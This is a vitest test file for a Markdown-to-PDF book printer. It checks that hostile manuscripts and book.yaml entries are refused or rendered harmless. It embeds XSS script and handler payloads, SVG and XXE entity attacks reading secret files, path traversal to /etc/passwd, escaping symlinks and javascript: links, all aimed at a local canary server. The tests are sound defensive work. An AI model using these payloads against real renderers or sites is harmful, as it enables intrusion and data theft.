import { readdir, symlink } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ask, judged } from '../print/judge.ts'
import { banxin, type Ended, pdfIn, type Told, temporaryFolders, writeFiles } from './banxin.ts'
import { sampleBook } from './sample-book.ts'

const makeFolder = temporaryFolders()

// Whatever asks this server for something has broken out.
const asked: string[] = []
const server = createServer((request, response) => {
  asked.push(request.url ?? '')
  response.end()
})
let web = ''
beforeAll(async () => {
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  web = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  await fetch(`${web}/listens`)
  expect(asked.splice(0)).toEqual(['/listens'])
})
afterAll(() => server.close())

const svg = (inner: string, more = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${more}>${inner}<path d="M0 0h9v9z"/></svg>`

/** Each is an error at its line, by the rule. */
function refused(): { rule: string; text: string }[] {
  return [
    ['html-refused', `<script>fetch('${web}/1')</script>`],
    ['html-attribute-refused', `文<img src="images/grey.png" alt="图" onerror="fetch('${web}/2')">字`],
    ['html-attribute-refused', `<p ONCLICK="fetch('${web}/3')">字</p>`],
    ['html-refused', `<iframe src="${web}/4"></iframe>`],
    ['html-refused', `<object data="${web}/5"></object>`],
    ['html-refused', `<embed src="${web}/6">`],
    ['html-refused', `<link rel="stylesheet" href="${web}/7.css">`],
    ['html-refused', `<style>@import url(${web}/8.css);</style>`],
    ['html-refused', `<meta http-equiv="refresh" content="0;url=${web}/9">`],
    ['html-refused', `<base href="${web}/">`],
    ['html-refused', `<video poster="${web}/10.png"></video>`],
    ['html-attribute-refused', `<form action="${web}/11"></form>`],
    ['remote-image', `![网上的图](${web}/12.png)`],
    ['remote-image', `<img src="${web.replace('http:', '')}/13.png" alt="网上的图">`],
    ['picture-outside', '![密](file:///etc/passwd)'],
    ['picture-outside', '![密](../secret.svg)'],
    ['picture-outside', '![密](images/../../secret.svg)'],
    ['picture-outside', '![密](..%2Fsecret.svg)'],
    ['picture-outside', '![密](images/linked.svg)'],
    ['picture-outside', '![密](linked-folder/secret.svg)'],
    ['picture-missing', '![密](/etc/passwd)'],
    ['picture-format', '![页](data:text/html;base64,PHNjcmlwdD4=)'],
    ['link-refused', '[点](javascript:alert%281%29)'],
    ['link-refused', '<a href="&#106;avascript:alert(1)">点</a>'],
    ['link-refused', '[点](data:text/html;base64,PHNjcmlwdD4=)'],
    ['svg-refused', `<svg viewBox="0 0 9 9"><image href="${web}/14.png"/></svg>`],
    ['svg-refused', '![图](images/script.svg)'],
    ['svg-refused', '![图](images/handler.svg)'],
    ['svg-refused', '![图](images/picture.svg)'],
    ['svg-refused', '![图](images/use.svg)'],
    ['svg-refused', '![图](images/style.svg)'],
    ['svg-refused', '![图](images/filter.svg)'],
    ['svg-refused', '![图](images/foreign.svg)'],
    ['svg-refused', '![图](images/entity.svg)'],
  ].map(([rule = '', text = '']) => ({ rule, text }))
}

const refusedPictures = () => ({
  'images/script.svg': svg(`<script>fetch('${web}/20')</script>`),
  'images/handler.svg': svg('', ` onload="fetch('${web}/21')"`),
  'images/picture.svg': svg(`<image xlink:href="${web}/22.png" width="9" height="9"/>`),
  'images/use.svg': svg(`<use href="${web}/23.svg#a"/>`),
  'images/style.svg': svg(`<style>@import url(${web}/24.css);</style>`),
  'images/filter.svg': svg(`<g filter="url(${web}/25.svg#f)" style="fill:url('${web}/26.svg#g')"/>`),
  'images/foreign.svg': svg(`<foreignObject><iframe src="${web}/27"/></foreignObject>`),
  'images/entity.svg': `<!DOCTYPE svg [<!ENTITY x SYSTEM "../secret.svg">]>${svg('<text>&x;</text>')}`,
})

/** Nothing of this reaches further than the page it is printed on. */
function harmless(): string[] {
  return [
    `![网上的图](${web}/30.png)`,
    `<div style="background:url(${web}/31.png)">风格</div>`,
    `<table background="${web}/32.png"><tr><td background="${web}/33.png">格</td></tr></table>`,
    `<a href="${web}/34" ping="${web}/35">链接</a>与[链接](${web}/36)`,
    `<img src="images/grey.png" alt="图" srcset="${web}/37.png 2x">`,
    `<picture><source srcset="${web}/38.png"><img src="images/grey.png" alt="图"></picture>`,
    `<!-- <script src="${web}/39.js"></script> -->`,
    `<input type="image" src="${web}/40.png">`,
    `<blockquote cite="${web}/41">引文</blockquote>`,
    `:::note{style="background:url(${web}/42.png)" onclick="fetch('${web}/43')"}\n容器\n:::`,
    `\`\`\`"><img src=${web}/44.png>\n</code></pre><script src="${web}/45.js"></script>\n\`\`\``,
    `公式 $\\includegraphics{${web}/46.png}$ 与 $\\href{javascript:alert(1)}{x}$ 与 $\\htmlStyle{background:url(${web}/47.png)}{y}$`,
    `![<img src="${web}/48.png">](images/grey.png "</figcaption><img src=${web}/49.png>")`,
    `## 标题 &lt;img src=${web}/50.png&gt; {#"><img}`,
    `注[^"><script>]。\n\n[^"><script>]: &lt;script src=${web}/51.js&gt;`,
    '![图](images/entity.svg)',
  ]
}

describe('a hostile manuscript', () => {
  test('is refused at every line that runs, loads or leaves the folder', async () => {
    const folder = await makeFolder()
    const attacks = refused()
    const sample = sampleBook()
    await writeFiles(folder, { 'secret.svg': svg('<text>机密</text>'), 'outside/secret.svg': svg('') })
    await writeFiles(join(folder, 'book'), {
      'book.yaml': 'title: 恶意\n',
      '01.md': `# 一\n\n${attacks.map(({ text }) => `${text}\n`).join('\n')}`,
      'images/grey.png': sample['images/grey.png'] ?? '',
      ...refusedPictures(),
    })
    await symlink('../../secret.svg', join(folder, 'book/images/linked.svg'))
    await symlink('../outside', join(folder, 'book/linked-folder'))
    const { code, out, err } = await banxin(folder, [
      'pdf',
      'book',
      '--output',
      'out',
      '--cache',
      'cache',
      '--json',
    ])
    expect(code, err).toBe(1)
    const { messages }: Told = JSON.parse(out)
    const found = messages.filter(({ severity }) => severity === 'error')
    const told = attacks.map(({ text }, index) => {
      const line = 3 + 2 * index
      return { text, rules: [...new Set(found.filter((at) => at.line === line).map(({ ruleId }) => ruleId))] }
    })
    expect(told).toEqual(attacks.map(({ rule, text }) => ({ text, rules: [rule] })))
    expect(found.every(({ file, line = 0 }) => file === 'book/01.md' && line <= 1 + 2 * attacks.length)).toBe(
      true,
    )
    expect(await readdir(folder)).not.toContain('out')
    expect(asked).toEqual([])
  })

  test.each([
    ['a theme', 'theme: ../../x', ['config-name']],
    ['a font', 'fonts:\n  song: ../secret.ttf', ['config-font-outside']],
    ['a link to a font', 'fonts:\n  song: linked.ttf', ['config-font-outside']],
    [
      'chapters',
      'chapters:\n  - ../secret.md\n  - /etc/passwd\n  - linked.md\n  - "../*.md"',
      ['chapter-outside', 'chapter-outside', 'chapter-outside', 'chapter-outside'],
    ],
  ])('is refused where book.yaml names what lies outside: %s', async (_, lines, rules) => {
    const folder = await makeFolder()
    await writeFiles(folder, { 'secret.md': '# 机密\n', 'secret.ttf': '机密' })
    await writeFiles(join(folder, 'book'), {
      'book.yaml': `title: 恶意\n${lines}\n`,
      '01.md': '# 一\n\n字\n',
    })
    await symlink('../secret.md', join(folder, 'book/linked.md'))
    await symlink('../secret.ttf', join(folder, 'book/linked.ttf'))
    const { code, out, err } = await banxin(folder, ['check', 'book', '--cache', 'cache', '--json'])
    const { messages }: Told = JSON.parse(out)
    expect({ code, rules: messages.map(({ ruleId }) => ruleId) }, err).toEqual({ code: 1, rules })
  })
})

describe('a hostile manuscript that can be printed', () => {
  let folder = ''
  let ended: Ended

  beforeAll(async () => {
    folder = await makeFolder()
    const sample = sampleBook()
    await writeFiles(folder, { 'secret.txt': '机密', 'deep/er/.keep': '' })
    await writeFiles(join(folder, 'book'), {
      'book.yaml': `title: "../../恶</title><img src=${web}/60.png>"\nauthors: "<script src=${web}/61.js>"\nremoteImages: placeholder\n`,
      '01.md': `# 一 *二*\n\n${harmless().join('\n\n')}\n`,
      'images/grey.png': sample['images/grey.png'] ?? '',
      'images/entity.svg':
        `<?xml version="1.0"?><?xml-stylesheet href="${web}/62.css"?>` +
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "file://${folder}/secret.txt">]>` +
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 300 60"><text y="40">[x]</text></svg>',
    })
    ended = await banxin(folder, ['pdf', 'book', '--output', 'deep/er/out', '--cache', 'cache', '--json'])
  })

  test('reaches no server and writes nowhere else', async () => {
    const { exitCode, messages }: Told = JSON.parse(ended.out)
    expect(messages.filter(({ severity }) => severity === 'error')).toEqual([])
    expect([ended.code, exitCode], ended.err).toEqual([0, 0])
    expect(asked).toEqual([])
    expect((await readdir(folder)).sort()).toEqual(['book', 'cache', 'deep', 'secret.txt'])
    expect((await readdir(join(folder, 'deep/er'))).sort()).toEqual(['.keep', 'out'])
    expect((await pdfIn(join(folder, 'deep/er/out'))).length).toBeGreaterThan(10_000)
  })

  judged(['pdftotext', 'qpdf'], 'is text to whoever reads the PDF', async () => {
    const pdf = await pdfIn(join(folder, 'deep/er/out'))
    const text = ask('pdftotext', pdf, '-raw', '#', '-')
    expect(text).not.toContain('机密')
    expect(text).toContain(`<script src="${web}/45.js">`)
    const whole = ask('qpdf', pdf, '--qdf', '--object-streams=disable', '#', '-')
    expect(whole).not.toMatch(/\/JavaScript|\/Launch|javascript:/)
    // Links of the author are links.
    expect(whole).toContain(`/URI (${web}/36)`)
  })
})
